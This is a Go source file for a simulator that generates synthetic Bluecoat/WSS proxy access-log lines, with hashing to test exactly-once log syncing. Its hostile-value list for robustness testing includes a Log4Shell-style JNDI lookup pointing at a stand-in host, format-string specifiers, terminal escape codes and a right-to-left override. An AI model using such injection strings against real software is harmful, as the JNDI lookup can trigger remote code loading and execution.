package simulator

import (
	"crypto/sha256"
	"strconv"
	"strings"
	"time"
)

// syncFields is the column set of the public field lists, in the order of
// the WSS access-log format (docs/wss-sync-api.md).
var syncFields = strings.Fields(`x-bluecoat-request-tenant-id date time x-bluecoat-appliance-name time-taken c-ip cs-userdn
cs-auth-groups x-exception-id sc-filter-result cs-categories cs(Referer) sc-status s-action
cs-method rs(Content-Type) cs-uri-scheme cs-host cs-uri-port cs-uri-path cs-uri-query
cs-uri-extension cs(User-Agent) s-ip sc-bytes cs-bytes x-virus-id x-bluecoat-application-name
x-bluecoat-application-operation cs-threat-risk x-rs-certificate-validate-status
x-rs-certificate-observed-errors x-cs-ocsp-error x-rs-ocsp-error x-rs-connection-negotiated-cipher
x-rs-certificate-hostname x-rs-certificate-hostname-category x-cs-client-ip-country
x-cs-connection-negotiated-cipher x-client-device-id x-client-os x-client-agent-type
x-client-security-posture-risk-score x-data-leak-detected x-bluecoat-transaction-uuid`)

// syncCols is every column the simulator writes: the public set, then
// two that only the edited format has.
var syncCols = append(append([]string(nil), syncFields...), "cs-username", "x-dns-cs-qtype")

const numSyncCols = 47

// syncCol maps a column name to its index in syncCols.
var syncCol = func() map[string]int {
	if len(syncCols) != numSyncCols {
		panic("simulator: numSyncCols is stale")
	}
	m := map[string]int{}
	for i, c := range syncCols {
		m[c] = i
	}
	return m
}()

// syncFieldsAlt is the edited format: date and time after the client, the
// transaction id first, two more columns.
var syncFieldsAlt = func() []string {
	out := []string{"x-bluecoat-transaction-uuid", "c-ip", "date", "time", "cs-username", "x-dns-cs-qtype"}
	for _, f := range syncFields {
		switch f {
		case "x-bluecoat-transaction-uuid", "c-ip", "date", "time":
		default:
			out = append(out, f)
		}
	}
	return out
}()

// syncOrders are the two formats as indexes into syncCols.
var syncOrders = func() [2][]int {
	var o [2][]int
	for k, fs := range [][]string{syncFields, syncFieldsAlt} {
		for _, f := range fs {
			o[k] = append(o[k], syncCol[f])
		}
	}
	return o
}()

// formatOf is the column order of position pos: with FieldsChange the
// format switches every half hour, so two files of one answer can differ.
// It depends on the position only, so a line is the same bytes whichever
// answer serves it.
func (s *SyncSimulator) formatOf(pos int64) int {
	if !s.cfg.FieldsChange {
		return 0
	}
	L := int64(s.cfg.LinesPerHour)
	half := (pos % L) * 2 / L
	return int(((pos/L)*2 + half) % 2)
}

// formatEnd is the first position after pos with another format (or the
// next hour): files are cut there.
func (s *SyncSimulator) formatEnd(pos int64) int64 {
	L := int64(s.cfg.LinesPerHour)
	h := pos / L * L
	if !s.cfg.FieldsChange {
		return h + L
	}
	if mid := h + (L+1)/2; pos < mid && L > 1 {
		// the first j with j*2/L >= 1 is ceil(L/2)
		return mid
	}
	return h + L
}

func (s *SyncSimulator) fields(format int) []string {
	if format == 1 {
		return syncFieldsAlt
	}
	return syncFields
}

var (
	syncCategories = []weighted{
		{"Technology/Internet", 20}, {"Business/Economy", 15}, {"Web Ads/Analytics", 12}, {"Search Engines/Portals", 10},
		{"Content Servers", 10}, {"Social Networking", 8}, {"File Storage/Sharing", 6}, {"News", 6}, {"Email", 5},
		{"Streaming Media;Entertainment", 4}, {"Suspicious", 2}, {"Malicious Sources/Malnets", 1}, {"Phishing", 1},
	}
	syncHosts = []string{
		"www.google.com", "outlook.office365.com", "login.microsoftonline.com", "drive.google.com", "github.com",
		"www.linkedin.com", "slack.com", "cdn.jsdelivr.net", "update.microsoft.com", "www.bbc.co.uk",
		"dropbox.com", "api.segment.io", "files.evil-downloads.example", "phish-login.example.net",
	}
	syncPaths      = []string{"/", "/search", "/mail/inbox", "/api/v1/events", "/download/setup.exe", "/login", "/static/app.js", "/drive/u/0/my-drive", "/images/logo.png", "/report.pdf"}
	syncGroups     = []string{"-", "-", `"Domain Users"`, `"Domain Users,Finance Team"`, "Engineering", `"Sales EMEA;VPN Users"`}
	syncVirus      = []string{"EICAR_Test_File", "Trojan.Gen.2", "W97M.Downloader", "Ransom.Wannacry"}
	syncExceptions = []string{"policy_denied", "content_filter_denied", "dns_unresolved_hostname", "policy_redirect"}
	syncCountries  = []string{"US", "DE", "GB", "FR", "NL", "IN", "JP", "BR"}
	syncOS         = []string{`"Windows 11 Enterprise"`, `"macOS 14.6"`, "Linux", `"iOS 18.1"`, "-"}
	syncAgents     = []string{"WSS-Agent", `"Unified Agent"`, "SEP", "-", "-"}
	syncApps       = [][2]string{{"-", "-"}, {"-", "-"}, {`"Google Drive"`, `"Upload File"`}, {"Dropbox", "Download"}, {`"Microsoft Teams"`, "Chat"}, {"Slack", `"Post Message"`}}
	syncCiphers    = []string{"ECDHE-RSA-AES256-GCM-SHA384", "TLS_AES_128_GCM_SHA256", "TLS_AES_256_GCM_SHA384", "-"}
	syncAppliances = []string{"ams1-swg-07", "fra2-swg-03", "lon1-swg-11", "nyc3-swg-02"}
	syncProxyIPs   = func() []string {
		out := make([]string, 200)
		for i := range out {
			out[i] = "199.19.250." + strconv.Itoa(i+1)
		}
		return out
	}()
	syncTypes = []string{"text/html;%20charset=utf-8", "application/json", "image/png", "application/octet-stream", "application/javascript", "-"}
	// Hostile values: quotes inside quotes, control bytes, invalid UTF-8,
	// injection attempts. Never a line break: a line is one record.
	syncHostile = []string{
		`"say "hello" to the proxy"`, "\"\x01\x02\x1b[31mred\x1b[0m\x7f\"", "\xff\xfe\xfd", `"unterminated`, `"`, `""`,
		"\"tab\there\"", `"${jndi:ldap://evil.example/a} %s %n"`, `"Ümlaut naïve 日本語 🚀"`, "\"\u202eevil\u202c\"",
	}
)

// syncLine appends the ELFF line of pos (no newline) to b.
func (s *SyncSimulator) syncLine(b []byte, pos int64) []byte {
	g := rng{state: mix64(s.key ^ uint64(pos)*golden)}
	ms := s.timeOf(pos)
	ts := time.UnixMilli(ms).UTC()
	user := firstNames[g.intn(len(firstNames))] + "." + lastNames[g.intn(len(lastNames))]
	if g.percent(1) {
		user = "ügo.ñandú" // non-ASCII names exist
	}
	filter := "OBSERVED"
	switch n := g.intn(100); {
	case n < 30:
		filter = "PROXIED"
	case n < 40:
		filter = "DENIED"
	}
	host := syncHosts[g.intn(len(syncHosts))]
	path := syncPaths[g.intn(len(syncPaths))]
	scheme, port, method := "https", "443", "GET"
	if g.percent(10) {
		scheme, port = "http", "80"
	}
	switch n := g.intn(100); {
	case n < 15:
		method = "POST"
	case n < 25:
		method = "CONNECT"
	case n < 28:
		method = "PUT"
	}
	status, action, exc, virus, risk := "200", "TCP_NC_MISS", "-", "-", strconv.Itoa(1+g.intn(3))
	switch filter {
	case "DENIED":
		status, action, exc = "403", "TCP_DENIED", syncExceptions[g.intn(len(syncExceptions))]
		risk = strconv.Itoa(5 + g.intn(6))
		if g.percent(2) { // malware is a rare cause of a block
			virus, exc = syncVirus[g.intn(len(syncVirus))], "virus_detected"
		}
	case "PROXIED":
		action = "TCP_TUNNELED"
	default:
		if g.percent(20) {
			status, action = "304", "TCP_HIT"
		}
	}
	query := "-"
	if g.percent(30) {
		query = "?q=" + strconv.Itoa(g.intn(100000)) + "&lang=en"
	}
	ext := "-"
	if i := strings.LastIndexByte(path, '.'); i >= 0 {
		ext = path[i+1:]
	}
	ref := "-"
	if g.percent(40) {
		ref = "https://" + syncHosts[g.intn(len(syncHosts))] + "/"
	}
	app := syncApps[g.intn(len(syncApps))]
	ua := `"` + userAgents[g.intn(len(userAgents))] + `"`
	leak := "-"
	if g.intn(1000) < 2 { // 0.2%: a DLP flag is rare
		leak = "yes"
	}
	device := "-"
	if g.percent(70) {
		device = strconv.FormatUint(g.next()&0xffffffffffff, 16)
	}
	uuid := s.syncUUID(pos)
	clientIP := "10." + strconv.Itoa(g.intn(8)) + "." + strconv.Itoa(g.intn(256)) + "." + strconv.Itoa(1+g.intn(254))
	certStatus, certErrs, rsCipher := "CERT_VALID", "none", syncCiphers[g.intn(len(syncCiphers))]
	if scheme == "http" {
		certStatus, certErrs, rsCipher = "-", "-", "-"
	}
	// In the order of syncCols.
	vals := [numSyncCols]string{
		s.tenant, ts.Format("2006-01-02"), ts.Format("15:04:05"), syncAppliances[g.intn(len(syncAppliances))], strconv.Itoa(1 + g.intn(3000)),
		clientIP, user + "@example.com", syncGroups[g.intn(len(syncGroups))], exc, filter,
		quoteELFF(g.pick(syncCategories)), ref, status, action, method,
		syncTypes[g.intn(len(syncTypes))], scheme, host, port, path,
		query, ext, ua, syncProxyIPs[g.intn(len(syncProxyIPs))], strconv.Itoa(200 + g.intn(2_000_000)),
		strconv.Itoa(100 + g.intn(5000)), virus, app[0], app[1], risk,
		certStatus, certErrs, "-", "-", rsCipher,
		host, quoteELFF(g.pick(syncCategories)), syncCountries[g.intn(len(syncCountries))], syncCiphers[g.intn(len(syncCiphers))], device,
		syncOS[g.intn(len(syncOS))], syncAgents[g.intn(len(syncAgents))], strconv.Itoa(g.intn(100)), leak, uuid,
		user, "-",
	}
	if s.cfg.HostileRate > 0 && unit(mix64(s.key^uint64(pos)^0x4057)) < s.cfg.HostileRate {
		hostileLine(&vals, &g)
	}
	for i, c := range syncOrders[s.formatOf(pos)] {
		if i > 0 {
			b = append(b, ' ')
		}
		b = append(b, vals[c]...)
	}
	return b
}

// hostileLine spoils a few values of a line; the transaction id stays, so
// the line stays unique.
func hostileLine(vals *[numSyncCols]string, g *rng) {
	switch g.intn(4) {
	case 0: // a huge query: 64 KiB in one value
		vals[syncCol["cs-uri-query"]] = "?q=" + strings.Repeat("A%20", 16<<10)
	case 1:
		vals[syncCol["cs(User-Agent)"]] = syncHostile[g.intn(len(syncHostile))]
	case 2:
		vals[syncCol["cs-auth-groups"]] = syncHostile[g.intn(len(syncHostile))]
		vals[syncCol["cs-categories"]] = syncHostile[g.intn(len(syncHostile))]
	default:
		vals[syncCol["cs-uri-path"]] = "/" + strings.Repeat("\xc3\x28", 100) + "/x y" // invalid UTF-8 and a bare space
	}
}

func (s *SyncSimulator) syncUUID(pos int64) string {
	a, b := mix64(s.key^uint64(pos)), mix64(s.key+uint64(pos)*golden)
	const hexd = "0123456789abcdef"
	out := make([]byte, 0, 36)
	for i := 0; i < 32; i++ {
		v := a
		if i >= 16 {
			v = b
		}
		out = append(out, hexd[(v>>(4*(i%16)))&0xf])
		if i == 7 || i == 11 || i == 15 || i == 19 {
			out = append(out, '-')
		}
	}
	return string(out)
}

// quoteELFF quotes a value holding spaces, as the proxy does.
func quoteELFF(v string) string {
	if strings.ContainsAny(v, " ;") {
		return `"` + v + `"`
	}
	return v
}

// SyncLine is the ELFF line at position pos (0 is Start's first line),
// as every answer serves it.
func (s *SyncSimulator) SyncLine(pos int64) []byte { return s.syncLine(nil, pos) }

// SyncRange is the positions whose time lies in [from, to).
func (s *SyncSimulator) SyncRange(from, to time.Time) (begin, end int64) {
	begin, end = s.posAt(from.UnixMilli()), s.posAt(to.UnixMilli())
	return begin, max(begin, end)
}

// SyncLineHashes is the SHA-256 of every line whose time lies in [from,
// to): the ground truth an exactly-once test compares its output with.
// Served lines are these bytes without the newline. It costs 32 bytes per
// line: keep the range to what the test fetched.
func (s *SyncSimulator) SyncLineHashes(from, to time.Time) map[[32]byte]struct{} {
	begin, end := s.SyncRange(from, to)
	out := make(map[[32]byte]struct{}, end-begin)
	var buf []byte
	for p := begin; p < end; p++ {
		buf = s.syncLine(buf[:0], p)
		out[sha256.Sum256(buf)] = struct{}{}
	}
	return out
}
